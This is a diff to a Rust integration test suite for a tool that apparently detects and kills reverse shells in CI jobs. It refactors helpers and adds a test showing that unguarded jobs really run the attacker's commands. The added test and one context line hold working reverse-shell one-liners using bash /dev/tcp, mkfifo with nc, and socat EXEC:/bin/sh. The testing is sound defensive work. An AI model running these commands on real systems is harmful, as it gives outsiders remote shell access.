@@ -14,7 +14,7 @@ use life::{Gate, detections};
 use portcullis_common::event::{DetectionEvent, DetectionType};
 use portcullis_common::policy::LockdownDetection;
 use portcullis_tests::world::network::RUNNER_V4;
-use portcullis_tests::{JobOutcome, JobResult, World, wait_until};
+use portcullis_tests::{Job, JobOutcome, JobResult, World, wait_until};
 use std::fs;
 use std::io::{Read, Write};
 use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
@@ -81,9 +81,8 @@ struct Commands {
 }
 
 impl Commands {
-    fn new(gate: &Gate) -> Result<Self> {
-        let directory =
-            tempfile::Builder::new().prefix("marker-").tempdir_in(gate.world.directory())?;
+    fn new(world: &World) -> Result<Self> {
+        let directory = tempfile::Builder::new().prefix("marker-").tempdir_in(world.directory())?;
         let directory = directory.keep();
         fs::set_permissions(&directory, fs::Permissions::from_mode(0o777))?;
         Ok(Self { marker: directory.join("executed"), answers: Arc::default() })
@@ -125,11 +124,11 @@ fn attempts() -> u32 {
 }
 
 impl Peer {
-    fn listen(gate: &Gate) -> Result<Self> {
-        let commands = Commands::new(gate)?;
+    fn listen(world: &World) -> Result<Self> {
+        let commands = Commands::new(world)?;
         for port in PORTS {
             let address = SocketAddr::from((Ipv4Addr::UNSPECIFIED, port));
-            let listener = gate.world.internet().run(|| TcpListener::bind(address))??;
+            let listener = world.internet().run(|| TcpListener::bind(address))??;
             let counted = commands.clone();
             thread::spawn(move || {
                 for stream in listener.incoming().flatten() {
@@ -137,7 +136,7 @@ impl Peer {
                     thread::spawn(move || command(&stream, &counted));
                 }
             });
-            let datagrams = gate.world.internet().run(|| UdpSocket::bind(address))??;
+            let datagrams = world.internet().run(|| UdpSocket::bind(address))??;
             let counted = commands.clone();
             thread::spawn(move || command_by_datagrams(&datagrams, &counted));
         }
@@ -158,7 +157,7 @@ impl Peer {
             .status()?;
         ensure!(made.success(), "openssl can't make a certificate");
         let tls = Command::new("nsenter")
-            .arg(format!("--net={}", gate.world.internet().path().display()))
+            .arg(format!("--net={}", world.internet().path().display()))
             .args(["python3", "-c", TLS_RELAY, &TLS_PORT.to_string(), &PORTS[0].to_string()])
             .args([path("certificate"), path("key")])
             .stdin(Stdio::null())
@@ -218,7 +217,7 @@ fn reverse_shells(result: &[portcullis_common::event::Event]) -> Vec<DetectionEv
 /// Runs each script as a job of its own, which must be killed for it.
 fn assert_killed(first: FirstCommand, variants: &[(&str, &str)]) -> Result<()> {
     let gate = Gate::up(World::builder().build()?, &[("audit", AUDIT)])?;
-    let peer = Peer::listen(&gate)?;
+    let peer = Peer::listen(&gate.world)?;
     let mut failures = Vec::new();
     for (name, script) in variants {
         let mut run_of = 0;
@@ -443,7 +442,7 @@ fn shells_on_a_listening_port() -> Result<()> {
         ("mkfifo and nc", "mkfifo f; sh <f 2>&1 | nc -l 6005 >f"),
     ];
     let gate = Gate::up(World::builder().build()?, &[("audit", AUDIT)])?;
-    let commands = Commands::new(&gate)?;
+    let commands = Commands::new(&gate.world)?;
     for (port, (name, script)) in (6001..).zip(variants) {
         for _ in 0..attempts() {
             commands.forget();
@@ -471,6 +470,27 @@ fn shells_on_a_listening_port() -> Result<()> {
                 gate.monitor.log()
             );
         }
+    }
+    Ok(())
+}
+
+/// The attacks are real: with nobody there the peer's commands are executed.
+#[test]
+fn without_a_gate_commands_are_executed() -> Result<()> {
+    let world = World::builder().build()?;
+    let peer = Peer::listen(&world)?;
+    for script in [
+        "bash -i >& /dev/tcp/$P/4444 0>&1",
+        "mkfifo f; sh <f 2>&1 | nc $P 4444 >f",
+        "socat TCP:$P:4444 EXEC:/bin/sh,pty,stderr,setsid,sigint,sane",
+    ] {
+        peer.commands.forget();
+        let job = format!(
+            "set +e; cd \"$RUNNER_TEMP\"; rm -f f; export P={PEER}\n(\n{script}\n) <&0 &\nfor n in $(seq 100); do [ -s {} ] && break; sleep 0.1; done; pkill -9 -P $$; true",
+            peer.commands.marker.display()
+        );
+        world.runner(0).run(&Job::script(&job))?;
+        ensure!(peer.commands.executed() > 0, "{script}");
     }
     Ok(())
 }
